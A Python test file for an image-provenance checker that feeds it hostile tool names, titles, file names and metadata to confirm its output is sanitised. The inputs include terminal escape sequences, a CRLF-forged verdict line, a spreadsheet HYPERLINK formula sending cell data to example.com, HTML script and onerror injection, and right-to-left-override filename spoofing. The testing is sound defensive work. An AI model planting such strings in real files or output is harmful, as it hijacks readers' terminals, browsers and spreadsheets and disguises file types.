"""Attacks on whoever reads the answer: strings that drive a terminal, a browser, a spreadsheet.

Their verdicts are checked with all the others, what is printed of them in ``test_display.py``.
"""

from __future__ import annotations

import os

from attack import Attempt, attack
from by_certificates import UNPROVEN
from by_size import NOTHING
from by_swapping import CAPTURED, MADE_BY_AI
from lab import MADE, PLACED, TAKEN, Lab
from signatory import Signatory
from surgery import chunk, inserted

from zoo_provenance.record import RECORD_LABEL, Record
from zoo_provenance.trust import Trust

OVERRIDE = "\N{RIGHT-TO-LEFT OVERRIDE}"


def by_tool(lab: Lab, tool: str, *never: str) -> Attempt:
    """A photograph signed by a stranger's tool of that name."""
    hostile = lab.stranger.sign(lab.photo, TAKEN, generator=tool)
    return Attempt(lab.case(hostile), lab.case(lab.captured), ("\x1b", *never))


def titled(lab: Lab, title: str, *never: str) -> Attempt:
    """A collage by a stranger of a photograph of that title."""
    hostile = lab.stranger.sign(
        lab.photo, TAKEN, PLACED, parents=[lab.captured], relationship="componentOf", title=title
    )
    return Attempt(lab.case(hostile), lab.case(lab.captured), never)


@attack(UNPROVEN, honest=CAPTURED, why="Control characters are taken out of what strangers write.")
def terminal_escapes(lab: Lab) -> Attempt:
    """names his tool so that a terminal is cleared and painted red."""
    return by_tool(lab, "\x1b[2J\x1b[31mTool")


@attack(UNPROVEN, honest=CAPTURED, why="Without its control characters it is no link.")
def terminal_link(lab: Lab) -> Attempt:
    """names his tool so that a terminal shows a link to his own page."""
    return by_tool(lab, "\x1b]8;;http://example.com\x1b\\Tool\x1b]8;;\x1b\\", "\x07")


@attack(UNPROVEN, honest=CAPTURED, why="A name is one line, whatever stands in it.")
def forged_line(lab: Lab) -> Attempt:
    """names his tool so that a line of its own appears, which says that the picture was issued."""
    return by_tool(lab, "Tool\r\nissued-here  ai  intact  photo.png", "\n", "\r")


@attack(UNPROVEN, honest=CAPTURED, why="A cell that a spreadsheet would compute begins with '.")
def formula(lab: Lab) -> Attempt:
    """names his tool like a spreadsheet's formula that sends data to a server."""
    return by_tool(lab, '=HYPERLINK("http://example.com/"&A1,"Tool")')


@attack(UNPROVEN, honest=CAPTURED, why="In the page for people it is text.")
def event_handler(lab: Lab) -> Attempt:
    """names his tool like a broken picture that runs a script in a browser."""
    return by_tool(lab, "<img src=x onerror='window.harm = 1'>Tool")


@attack(UNPROVEN, honest=CAPTURED, why="In the page for people it is text.")
def script_in_a_title(lab: Lab) -> Attempt:
    """titles an ingredient with a script."""
    return titled(lab, "</title><script>window.harm = 1</script>Title")


@attack(UNPROVEN, honest=CAPTURED, why="Characters that turn the direction are taken out.")
def title_that_turns_the_line_round(lab: Lab) -> Attempt:
    """titles an ingredient so that exe.jpg is read where gpj.exe stands."""
    return titled(lab, f"Title {OVERRIDE}gpj.exe", OVERRIDE)


@attack(UNPROVEN, honest=CAPTURED, why="No string of a stranger's is shown at such length.")
def title_of_a_megabyte(lab: Lab) -> Attempt:
    """titles an ingredient with a million letters."""
    return titled(lab, "Title" + "A" * 1_000_000, "A" * 1000)


@attack(UNPROVEN, honest=CAPTURED, why="A zero byte is a control character like others.")
def zero_bytes_in_a_record(lab: Lab) -> Attempt:
    """writes zero bytes into the record of how the picture was made, to cut off what follows."""
    record = Record("toy.x", "toy", label="Pear\0\x1b[2JTitle")
    about = {"label": RECORD_LABEL, "data": {"json": record.to_json()}}
    hostile = lab.stranger.sign(lab.photo, TAKEN, assertions=[about])
    return Attempt(lab.case(hostile), lab.case(lab.captured), ("\0", "\x1b"))


@attack(MADE_BY_AI, honest=CAPTURED, why="A trusted signer's name is cleaned like any other.")
def escapes_in_a_trusted_name(lab: Lab) -> Attempt:
    """is certified by an authority that we trust, under a name full of control characters."""
    signer = Signatory("News\x1b]0;owned\x07 Agency")
    trust = Trust((*lab.trust.signers, signer.anchor))
    return Attempt(lab.case(signer.sign(lab.photo, MADE), trust=trust), lab.case(lab.captured),
                   ("\x1b", "\x07"))  # fmt: skip


@attack("claimed-ai ai unbound", honest=NOTHING, why="Metadata is cleaned like all the rest.")
def harm_in_the_metadata(lab: Lab) -> Attempt:
    """writes scripts and control characters into a generator's settings in a picture."""
    text = "<script>window.harm = 1</script>\x1b[2J\x85 Tool\nSteps: 20, Sampler: \x1b[31mEuler, "
    text += "CFG scale: 7, Seed: 1, Size: 512x512"
    itxt = chunk(b"iTXt", b"parameters\0\0\0\0\0" + text.encode())
    return Attempt(lab.case(inserted(lab.photo, itxt)), lab.case(lab.photo), ("\x1b", "\x85"))


@attack(NOTHING, honest=CAPTURED, why="A file's name says nothing of the picture, and stays on its "
        "line.")  # fmt: skip
def name_that_gives_the_verdict(lab: Lab) -> Attempt:
    """names a file like a line of the table of answers, with control characters."""
    name = f"a\x1b[2Jb\ndeclared-capture  capture  intact  {OVERRIDE}gpj.png"
    hostile = lab.case(lab.photo, name=name if os.name == "posix" else "declared-capture.png")
    return Attempt(hostile, lab.case(lab.captured))


@attack(NOTHING, honest=CAPTURED, why="The answer is given all the same.")
def name_that_is_no_text(lab: Lab) -> Attempt:
    """gives a file a name that is no text at all, to break the program that prints it."""
    name = os.fsdecode(b"odd\xff\xc3.png") if os.name == "posix" else "odd.png"
    return Attempt(lab.case(lab.photo, name=name), lab.case(lab.captured))
